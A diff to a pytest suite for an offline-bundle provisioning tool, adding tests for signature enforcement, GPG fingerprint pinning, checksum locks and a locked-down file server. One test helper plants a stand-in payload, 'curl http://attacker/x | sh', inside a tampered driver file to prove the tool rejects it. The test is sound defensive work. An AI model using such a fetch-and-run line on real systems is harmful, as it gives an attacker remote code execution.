@@ -4,8 +4,10 @@ match its checksum), completeness for an inventory, the HTTP server and the sign
 
 from __future__ import annotations
 
+import functools
 import gzip
 import hashlib
+import http.server
 import io
 import json
 import shutil
@@ -21,7 +23,7 @@ import pytest
 
 from provision.ascend import lock
 from provision.bundle import serve
-from tests.helpers import gnupg_home, run_cli, write_tree
+from tests.helpers import TEST_API_KEY, gnupg_home, run_cli, write_tree
 
 pytestmark = pytest.mark.unit
 
@@ -152,6 +154,7 @@ def inventory(tmp_path: Path) -> Path:
             "host_vars/node1.yml": FACTS.format(os="openEuler", version="22.03"),
             "host_vars/node2.yml": FACTS.format(os="ubuntu", version="22.04"),
             "group_vars/npu_nodes.yml": f"""\
+                vllm_serve_api_key: {TEST_API_KEY}
                 vllm_serve_image: {IMAGE}
                 npu_pools_list: [{{name: chat, devices: [0], port: 8000, profile: small}}]
                 vllm_serve_profiles:
@@ -259,7 +262,7 @@ def test_a_rerun_reuses_the_work_folder_and_copies_nothing(
     (Path(f"{bundle}.work") / "ascend" / DRIVER).write_bytes(b"half a file")
     assert build(monkeypatch, inventory, bundle, mirror) == 0
     assert f"1 copied, {total - 1} reused" in capsys.readouterr().out
-    assert run_cli(["bundle", "verify", str(bundle)], monkeypatch) == 0
+    assert run_cli(["bundle", "verify", "--allow-unsigned", str(bundle)], monkeypatch) == 0
 
 
 def test_a_run_file_that_does_not_match_its_checksum_is_refused(
@@ -353,6 +356,32 @@ def test_run_files_from_the_vendor_folder_need_a_checksum(
     assert "or pin it in ascend_driver_checksums" in err
 
 
+def test_a_run_file_pinned_by_the_lock_must_match_the_pin_whatever_the_mirror_lists(
+    tmp_path: Path,
+    inventory: Path,
+    mirror: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    from provision.ascend import lock
+
+    vendor = "0" * 64  # what the vendor publishes for DRIVER, in this test
+    monkeypatch.setattr(lock, "sha256_pins", lambda: {DRIVER: vendor})
+    # The mirror's sha256sums.txt agrees with its own copy of the file: it does not matter.
+    served = sha((mirror / "ascend" / DRIVER).read_bytes())
+    assert build(monkeypatch, inventory, tmp_path / "rack.tar", mirror) == 2
+    err = capsys.readouterr().err
+    assert (
+        f"{mirror / 'ascend' / DRIVER}: sha256 {served} does not match {vendor} (the version lock, "
+        "provision/data/versions.yml): it is corrupted or not the vendor's file"
+    ) in err
+    assert not (tmp_path / "rack.tar").exists()
+    # The inventory's pin wins over the lock's (whoever writes the inventory vouches for its file).
+    with (inventory.parent / "group_vars" / "npu_nodes.yml").open("a") as group_vars:
+        group_vars.write(f"ascend_driver_checksums: {{'{DRIVER}': '{served}'}}\n")
+    assert build(monkeypatch, inventory, tmp_path / "rack.tar", mirror) == 0
+
+
 def test_an_image_nobody_gave_is_refused(
     tmp_path: Path,
     inventory: Path,
@@ -379,7 +408,13 @@ def test_missing_weights_are_left_out_saying_so(
     assert build(monkeypatch, inventory, tmp_path / "rack.tar", mirror) == 0
     err = capsys.readouterr().err
     assert "not bundled (optional): models/small.tar (weights of profile small)" in err
-    assert run_cli(["bundle", "verify", str(tmp_path / "rack.tar"), "-i", str(inventory)], monkeypatch) == 1
+    assert (
+        run_cli(
+            ["bundle", "verify", "--allow-unsigned", str(tmp_path / "rack.tar"), "-i", str(inventory)],
+            monkeypatch,
+        )
+        == 1
+    )
     assert "node1: models/small.tar (weights of profile small)" in capsys.readouterr().err
 
 
@@ -406,7 +441,7 @@ def test_gzip_archive(
     output = tmp_path / "rack.tar.gz"
     assert build(monkeypatch, inventory, output, mirror) == 0
     assert output.read_bytes()[:2] == b"\x1f\x8b"
-    assert run_cli(["bundle", "verify", str(output)], monkeypatch) == 0
+    assert run_cli(["bundle", "verify", "--allow-unsigned", str(output)], monkeypatch) == 0
 
 
 # ------------------------------------------------------------------------------------------ verify
@@ -415,7 +450,9 @@ def test_gzip_archive(
 def test_verify_accepts_an_intact_bundle_and_checks_completeness(
     bundle: Path, inventory: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    assert run_cli(["bundle", "verify", str(bundle), "-i", str(inventory)], monkeypatch) == 0
+    assert (
+        run_cli(["bundle", "verify", "--allow-unsigned", str(bundle), "-i", str(inventory)], monkeypatch) == 0
+    )
     out = capsys.readouterr().out
     assert f"{bundle}: ok, " in out and "files match the manifest, not signed" in out
     assert f"{bundle}: complete for {inventory} (2 node(s))" in out
@@ -427,7 +464,9 @@ def test_verify_names_what_a_node_the_bundle_was_not_built_for_lacks(
     (inventory.parent / "host_vars" / "node2.yml").write_text(
         "bootstrap_facts: {arch: aarch64, os: {id: openEuler, version: '24.03'}}\nmonitoring_enabled: true\n"
     )
-    assert run_cli(["bundle", "verify", str(bundle), "-i", str(inventory)], monkeypatch) == 1
+    assert (
+        run_cli(["bundle", "verify", "--allow-unsigned", str(bundle), "-i", str(inventory)], monkeypatch) == 1
+    )
     err = capsys.readouterr().err
     assert f"{bundle}: incomplete for {inventory}:" in err
     assert "node2: openeuler/openEuler-24.03-*/OS/aarch64 (openEuler 24.03 OS repository (aarch64))" in err
@@ -439,7 +478,7 @@ def test_a_corrupted_file_is_refused_naming_it(
     bundle: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     rewrite(bundle, {f"ascend/{DRIVER}": b"flipped bits"})
-    assert run_cli(["bundle", "verify", str(bundle)], monkeypatch) == 1
+    assert run_cli(["bundle", "verify", "--allow-unsigned", str(bundle)], monkeypatch) == 1
     err = capsys.readouterr().err
     assert f"{bundle}: refused, 1 problem(s):" in err
     assert (
@@ -451,7 +490,7 @@ def test_a_missing_file_and_an_unlisted_one_are_refused(
     bundle: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     rewrite(bundle, {"images/vllm-ascend_test.tar": None, "ascend/extra.run": b"smuggled"})
-    assert run_cli(["bundle", "verify", str(bundle)], monkeypatch) == 1
+    assert run_cli(["bundle", "verify", "--allow-unsigned", str(bundle)], monkeypatch) == 1
     err = capsys.readouterr().err
     assert (
         "images/vllm-ascend_test.tar: missing (the manifest lists it: image registry.lan/vllm-ascend:test)"
@@ -466,7 +505,7 @@ def test_a_manifest_that_does_not_match_its_checksum_is_refused(
     manifest = json.loads(members(bundle)["manifest.json"])
     manifest["files"] = [e for e in manifest["files"] if e["path"] != f"ascend/{DRIVER}"]
     rewrite(bundle, {"manifest.json": json.dumps(manifest).encode(), f"ascend/{DRIVER}": None})
-    assert run_cli(["bundle", "verify", str(bundle)], monkeypatch) == 1
+    assert run_cli(["bundle", "verify", "--allow-unsigned", str(bundle)], monkeypatch) == 1
     err = capsys.readouterr().err
     assert f"{bundle}: manifest.json does not match manifest.json.sha256" in err
     assert "the manifest was changed or damaged" in err
@@ -475,13 +514,13 @@ def test_a_manifest_that_does_not_match_its_checksum_is_refused(
 def test_not_a_bundle_is_bad_input(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    assert run_cli(["bundle", "verify", str(tmp_path / "absent.tar")], monkeypatch) == 2
+    assert run_cli(["bundle", "verify", "--allow-unsigned", str(tmp_path / "absent.tar")], monkeypatch) == 2
     assert f"{tmp_path / 'absent.tar'}: no such bundle" in capsys.readouterr().err
     (tmp_path / "text.tar").write_text("hello")
-    assert run_cli(["bundle", "verify", str(tmp_path / "text.tar")], monkeypatch) == 2
+    assert run_cli(["bundle", "verify", "--allow-unsigned", str(tmp_path / "text.tar")], monkeypatch) == 2
     assert f"{tmp_path / 'text.tar'}: not a bundle archive (tar)" in capsys.readouterr().err
     other = docker_save_tar(tmp_path / "image.tar", "x:1")
-    assert run_cli(["bundle", "verify", str(other)], monkeypatch) == 2
+    assert run_cli(["bundle", "verify", "--allow-unsigned", str(other)], monkeypatch) == 2
     assert (
         f"{other}: not a provision bundle: its manifest.json is not a bundle manifest"
         in capsys.readouterr().err
@@ -495,13 +534,13 @@ def test_unpack_verifies_and_refuses_a_used_folder(
     bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     dest = tmp_path / "www"
-    assert run_cli(["bundle", "unpack", str(bundle), str(dest)], monkeypatch) == 0
+    assert run_cli(["bundle", "unpack", "--allow-unsigned", str(bundle), str(dest)], monkeypatch) == 0
     assert (dest / "ascend" / DRIVER).read_bytes() == members(bundle)[f"ascend/{DRIVER}"]
-    assert run_cli(["bundle", "verify", str(dest)], monkeypatch) == 0
-    assert run_cli(["bundle", "unpack", str(bundle), str(dest)], monkeypatch) == 2
+    assert run_cli(["bundle", "verify", "--allow-unsigned", str(dest)], monkeypatch) == 0
+    assert run_cli(["bundle", "unpack", "--allow-unsigned", str(bundle), str(dest)], monkeypatch) == 2
     assert f"{dest}: exists and is not an empty folder" in capsys.readouterr().err
     (dest / "ascend" / DRIVER).write_bytes(b"edited on the server")
-    assert run_cli(["bundle", "verify", str(dest)], monkeypatch) == 1
+    assert run_cli(["bundle", "verify", "--allow-unsigned", str(dest)], monkeypatch) == 1
     assert f"ascend/{DRIVER}: corrupted" in capsys.readouterr().err
 
 
@@ -509,7 +548,7 @@ def test_the_server_answers_a_get_for_a_file(
     bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     dest = tmp_path / "www"
-    assert run_cli(["bundle", "unpack", str(bundle), str(dest)], monkeypatch) == 0
+    assert run_cli(["bundle", "unpack", "--allow-unsigned", str(bundle), str(dest)], monkeypatch) == 0
     server = serve.open_server(dest, "127.0.0.1", 0)
     thread = threading.Thread(target=server.serve_forever, daemon=True)
     thread.start()
@@ -520,6 +559,14 @@ def test_the_server_answers_a_get_for_a_file(
         assert answer.content == (dest / "ascend" / DRIVER).read_bytes()
         sums_answer = httpx.get(f"http://127.0.0.1:{port}/ascend/sha256sums.txt", timeout=10)
         assert hashlib.sha256(answer.content).hexdigest() + f"  {DRIVER}" in sums_answer.text
+        # No folder is listed: neither the root, nor a folder with or without its slash (no redirect to
+        # a listing), nor one holding an index.html (which the standard handler would serve instead).
+        (dest / "models" / "index.html").write_text("<a href=small.tar>")
+        for folder in ("", "ascend/", "ascend", "openeuler/", "models/"):
+            listing = httpx.get(f"http://127.0.0.1:{port}/{folder}", timeout=10)
+            assert listing.status_code == 404, (folder, listing.status_code)
+            assert DRIVER not in listing.text and "small.tar" not in listing.text
+            assert "No folder listings" in listing.text
     finally:
         server.shutdown()
         server.server_close()
@@ -535,7 +582,13 @@ def test_serve_prints_the_group_vars_then_serves(
         raise KeyboardInterrupt  # Ctrl-C: the server stops, the command ends cleanly
 
     monkeypatch.setattr("http.server.ThreadingHTTPServer.serve_forever", no_loop)
-    assert run_cli(["bundle", "serve", str(bundle), "--bind", "127.0.0.1", "--port", "0"], monkeypatch) == 0
+    assert (
+        run_cli(
+            ["bundle", "serve", "--allow-unsigned", str(bundle), "--bind", "127.0.0.1", "--port", "0"],
+            monkeypatch,
+        )
+        == 0
+    )
     out = capsys.readouterr().out
     assert f"serving {bundle} (" in out and " files, verified) on http://127.0.0.1:" in out
     port = out.split("http://127.0.0.1:")[1].split("/")[0]
@@ -552,13 +605,35 @@ def test_serve_prints_the_group_vars_then_serves(
     assert len(served) == 1 and not served[0].exists()  # the unpacked copy is removed afterwards
 
 
+def test_serve_listens_on_loopback_unless_told(
+    bundle: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    bound: list[tuple[str, int]] = []
+
+    def no_loop(self: http.server.ThreadingHTTPServer) -> None:
+        bound.append((str(self.server_address[0]), int(self.server_address[1])))
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr("http.server.ThreadingHTTPServer.serve_forever", no_loop)
+    assert run_cli(["bundle", "serve", "--allow-unsigned", str(bundle), "--port", "0"], monkeypatch) == 0
+    out = capsys.readouterr().out
+    assert bound[0][0] == "127.0.0.1"
+    assert (
+        "listening on loopback only: the nodes cannot reach 127.0.0.1; give --bind ADDR to serve them" in out
+    )
+    args = ["bundle", "serve", "--allow-unsigned", str(bundle), "--port", "0", "--bind", "0.0.0.0"]
+    assert run_cli(args, monkeypatch) == 0
+    assert bound[1][0] == "0.0.0.0"
+    assert "listening on loopback only" not in capsys.readouterr().out
+
+
 def test_serve_refuses_a_corrupted_bundle_and_serves_nothing(
     bundle: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     opened: list[object] = []
     monkeypatch.setattr(serve, "open_server", lambda *args: opened.append(args))
     rewrite(bundle, {"models/small.tar": b"x"})
-    assert run_cli(["bundle", "serve", str(bundle), "--port", "0"], monkeypatch) == 1
+    assert run_cli(["bundle", "serve", "--allow-unsigned", str(bundle), "--port", "0"], monkeypatch) == 1
     assert "models/small.tar: corrupted" in capsys.readouterr().err
     assert opened == []
 
@@ -597,11 +672,11 @@ def test_serve_refuses_a_damaged_bundle_naming_the_file_and_opens_no_socket(
         target.mkdir()
         subprocess.run(["tar", "-xf", str(bundle), "-C", str(target)], check=True)
     before = sorted(p.name for p in bundle.parent.iterdir())
-    assert run_cli(["bundle", "serve", str(target), "--port", "0"], monkeypatch) == 1
+    assert run_cli(["bundle", "serve", "--allow-unsigned", str(target), "--port", "0"], monkeypatch) == 1
     assert said in capsys.readouterr().err
     assert opened == []
     assert sorted(p.name for p in bundle.parent.iterdir()) == before  # no unpacked copy left beside it
-    assert run_cli(["bundle", "verify", str(target)], monkeypatch) == 1
+    assert run_cli(["bundle", "verify", "--allow-unsigned", str(target)], monkeypatch) == 1
     assert said in capsys.readouterr().err
 
 
@@ -641,12 +716,123 @@ def test_a_signed_bundle_verifies_with_the_key_and_not_when_tampered(
     assert "manifest.json.asc does not verify manifest.json: bad signature" in capsys.readouterr().err
 
 
+def tamper_consistently(archive: Path) -> bytes:
+    """The attack a checksum cannot catch: a run file replaced, its manifest entry and the manifest's own
+    checksum rewritten to match. What the replaced file holds."""
+    evil = b"#!/bin/sh\ncurl http://attacker/x | sh\n"
+    manifest = json.loads(members(archive)["manifest.json"])
+    for entry in manifest["files"]:
+        if entry["path"] == f"ascend/{DRIVER}":
+            entry["sha256"], entry["size"] = sha(evil), len(evil)
+    data = json.dumps(manifest).encode()
+    rewrite(
+        archive,
+        {
+            f"ascend/{DRIVER}": evil,
+            "manifest.json": data,
+            "manifest.json.sha256": f"{sha(data)}  manifest.json\n".encode(),
+        },
+    )
+    return evil
+
+
+def test_an_unsigned_bundle_is_refused_unless_allowed(
+    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    tamper_consistently(bundle)
+    refusal = (
+        f"{bundle}: not signed (no manifest.json.asc): its checksum catches damage, not a manifest "
+        "rewritten with its files. Build it with --sign-key KEY and verify with --key FINGERPRINT, or "
+        "accept it with --allow-unsigned"
+    )
+    assert run_cli(["bundle", "verify", str(bundle)], monkeypatch) == 1
+    captured = capsys.readouterr()
+    assert refusal in captured.err and "ok" not in captured.out
+    dest = tmp_path / "www"
+    assert run_cli(["bundle", "unpack", str(bundle), str(dest)], monkeypatch) == 1
+    assert "not signed (no manifest.json.asc)" in capsys.readouterr().err
+    assert not dest.exists()
+    opened: list[object] = []
+    monkeypatch.setattr(serve, "open_server", lambda *args: opened.append(args))
+    assert run_cli(["bundle", "serve", str(bundle), "--port", "0"], monkeypatch) == 1
+    assert "not signed (no manifest.json.asc)" in capsys.readouterr().err
+    assert opened == []
+    # What --allow-unsigned gives up: the consistent rewrite passes, which is why it must be asked for.
+    assert run_cli(["bundle", "verify", "--allow-unsigned", str(bundle)], monkeypatch) == 0
+    assert "files match the manifest, not signed" in capsys.readouterr().out
+
+
+def fingerprint(gpg: list[str], uid: str) -> str:
+    listed = subprocess.run(
+        [*gpg, "--with-colons", "--fingerprint", uid], capture_output=True, text=True, check=True
+    ).stdout
+    return next(line.split(":")[9] for line in listed.splitlines() if line.startswith("fpr:"))
+
+
+@pytest.mark.skipif(shutil.which("gpg") is None, reason="gpg is not installed")
+def test_key_pins_the_signer_by_fingerprint(
+    request: pytest.FixtureRequest,
+    tmp_path: Path,
+    inventory: Path,
+    mirror: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    home = gnupg_home(request, tmp_path)
+    monkeypatch.setenv("GNUPGHOME", str(home))  # --key FINGERPRINT checks with the user's keyring
+    gpg = ["gpg", "--homedir", str(home), "--batch", "--pinentry-mode", "loopback", "--passphrase", ""]
+    for uid in ("site@test", "other@test"):
+        subprocess.run([*gpg, "--quick-generate-key", uid, "ed25519", "sign", "never"], check=True)
+    site, other = fingerprint(gpg, "site@test"), fingerprint(gpg, "other@test")
+    good, foreign = tmp_path / "good.tar", tmp_path / "foreign.tar"
+    assert build(monkeypatch, inventory, good, mirror, "--sign-key", site, "--gnupg-home", str(home)) == 0
+    assert build(monkeypatch, inventory, foreign, mirror, "--sign-key", other, "--gnupg-home", str(home)) == 0
+    capsys.readouterr()
+    # The fingerprint as gpg --fingerprint prints it (groups of four) is accepted too.
+    spaced = " ".join(site[i : i + 4] for i in range(0, 40, 4))
+    for given in (site, site.lower(), spaced):
+        assert run_cli(["bundle", "verify", str(good), "--key", given], monkeypatch) == 0
+        assert f"files match the manifest, signed by {site}" in capsys.readouterr().out
+    assert run_cli(["bundle", "verify", str(foreign), "--key", site], monkeypatch) == 1
+    assert f"{foreign}: signed by {other}, not by the pinned key {site} (--key): refused" in (
+        capsys.readouterr().err
+    )
+    # Without --key any key of the keyring vouches: the foreign bundle passes, which is what --key is for.
+    assert run_cli(["bundle", "verify", str(foreign)], monkeypatch) == 0
+    assert f"signed by {other}" in capsys.readouterr().out
+    # serve and unpack verify with the same rule before anything is served or written.
+    opened: list[object] = []
+    monkeypatch.setattr(serve, "open_server", lambda *args: opened.append(args))
+    assert run_cli(["bundle", "serve", str(foreign), "--key", site, "--port", "0"], monkeypatch) == 1
+    assert f"not by the pinned key {site}" in capsys.readouterr().err
+    assert opened == []
+    dest = tmp_path / "www"
+    assert run_cli(["bundle", "unpack", str(foreign), str(dest), "--key", site], monkeypatch) == 1
+    assert f"not by the pinned key {site}" in capsys.readouterr().err
+    assert not dest.exists()
+    assert run_cli(["bundle", "unpack", str(good), str(dest), "--key", site], monkeypatch) == 0
+    assert (dest / "manifest.json.asc").is_file()
+    # A signed bundle rewritten consistently (the attack of the unsigned test) fails its signature.
+    tamper_consistently(good)
+    assert run_cli(["bundle", "verify", str(good), "--key", site], monkeypatch) == 1
+    assert "manifest.json.asc does not verify manifest.json: bad signature" in capsys.readouterr().err
+    # A --key that is neither a fingerprint nor a file is bad input.
+    assert run_cli(["bundle", "verify", str(foreign), "--key", "ABCD"], monkeypatch) == 2
+    assert (
+        "--key ABCD: neither a key fingerprint (40 hex digits, 64 for a v6 key) nor a file"
+        in capsys.readouterr().err
+    )
+
+
 # ------------------------------------------------------------------------------------- a mirror over HTTP
 
 
 @pytest.fixture
 def mirror_url(mirror: Path) -> Iterator[str]:
-    server = serve.open_server(mirror, "127.0.0.1", 0)
+    """The mirror as a web server with folder listings serves it (nginx autoindex, Python's http.server):
+    the builder reads the openEuler release folders from them. ``bundle serve`` lists none."""
+    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(mirror))
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
     thread = threading.Thread(target=server.serve_forever, daemon=True)
     thread.start()
     yield f"http://127.0.0.1:{server.server_address[1]}"
@@ -752,7 +938,7 @@ def test_sign_repos_writes_release_files_of_what_the_bundle_holds_signed_by_its_
         )
         == 1
     )
-    assert run_cli(["bundle", "verify", str(output)], monkeypatch) == 0
+    assert run_cli(["bundle", "verify", "--allow-unsigned", str(output)], monkeypatch) == 0
 
 
 def serve_manifest(archive: Path) -> Any:
